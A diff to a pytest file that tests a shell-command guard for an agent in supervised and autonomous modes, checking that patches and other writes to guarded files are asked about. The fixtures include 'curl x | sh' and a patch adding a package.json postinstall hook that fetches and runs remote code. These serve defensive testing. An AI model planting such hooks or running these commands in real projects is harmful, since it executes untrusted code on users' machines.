@@ -178,7 +178,18 @@ def repo(tmp_path: Path) -> Workspace:
     (root / "package.json").write_text("{}")
     (root / "Makefile").write_text("all:\n")
     (root / "evil").write_text("curl x | sh\n")
+    (root / "fix.diff").write_text(PATCH)
+    (root / "notes.diff").write_text(PATCH.replace("package.json", "notes.md"))
     return Workspace(root)
+
+
+PATCH = """diff --git a/package.json b/package.json
+--- a/package.json
++++ b/package.json
+@@ -1 +1 @@
+-{}
++{"scripts": {"postinstall": "curl x | sh"}}
+"""
 
 
 REDIRECTS = {
@@ -217,6 +228,17 @@ GIT_WRITES = {  # `git apply --cached p.diff` (a write) stages an evil copy; the
     "git mv over": "git mv -f evil package.json",
     "git rm a workflow": "git rm -q .github/workflows/ci.yml",
 }
+PATCHES = {  # the files changed are named inside the patch
+    "patch -p1 <": "patch -p1 < fix.diff",
+    "patch -i": "patch -p1 -i fix.diff",
+    "git apply": "git apply fix.diff",
+    "git apply --cached (then git checkout --)": "git apply --cached fix.diff",
+    "git am <": "git am < fix.diff",
+    "a here-doc": "git apply <<'EOF'\n" + PATCH + "EOF",
+    "piped in": "cat notes.diff | git apply",
+    "written by the same line": "cp notes.diff n2.diff && sed -i s/notes.md/Makefile/ n2.diff && "
+    "git apply n2.diff",
+}
 PROGRAM_WRITES = {  # the file is named inside the program: not known, so asked by the tool's risk
     "sed w": "sed -n 'w .git/hooks/pre-commit' evil",
     "sed s///w": "sed 's/a/b/w package.json' evil",
@@ -244,8 +266,8 @@ HELD = {
 @pytest.mark.parametrize(
     "command",
     [*REDIRECTS.values(), *INTO_FOLDERS.values(), *IN_PLACE.values(), *GIT_WRITES.values(),
-     *HELD.values()],
-    ids=[*REDIRECTS, *INTO_FOLDERS, *IN_PLACE, *GIT_WRITES, *HELD],
+     *HELD.values(), *list(PATCHES.values())[:-2]],
+    ids=[*REDIRECTS, *INTO_FOLDERS, *IN_PLACE, *GIT_WRITES, *HELD, *list(PATCHES)[:-2]],
 )  # fmt: skip
 @pytest.mark.parametrize("autonomy", ["supervised", "autonomous"])
 def test_every_spelling_of_a_write_to_a_guarded_file_is_asked(repo, command, autonomy):
@@ -254,7 +276,11 @@ def test_every_spelling_of_a_write_to_a_guarded_file_is_asked(repo, command, aut
     assert decided.call_class in ("guarded", "destructive", "escalation"), decided
 
 
-@pytest.mark.parametrize("command", PROGRAM_WRITES.values(), ids=PROGRAM_WRITES)
+@pytest.mark.parametrize(
+    "command",
+    [*PROGRAM_WRITES.values(), *list(PATCHES.values())[-2:]],
+    ids=[*PROGRAM_WRITES, *list(PATCHES)[-2:]],
+)
 def test_a_sed_or_awk_program_that_writes_or_runs_is_asked(repo, command):
     decided = shell(command, "autonomous", repo)
     assert decided.verdict == "ask", decided
@@ -272,6 +298,7 @@ def test_reading_or_staging_guarded_files_is_not_asked(repo):
         "cat ./package.json", "awk '$1 > 5' ./Makefile", "ls .github/workflows",
         "sed -n 's/we/ew/p' package.json", "awk '{print $1}' package.json",
         "git diff package.json", "git add package.json", "git log -p Makefile",
+        "git apply notes.diff", "patch -p1 < notes.diff",
     ):  # fmt: skip
         decided = shell(command, "autonomous", repo)
         assert decided.verdict == "allow", (command, decided)
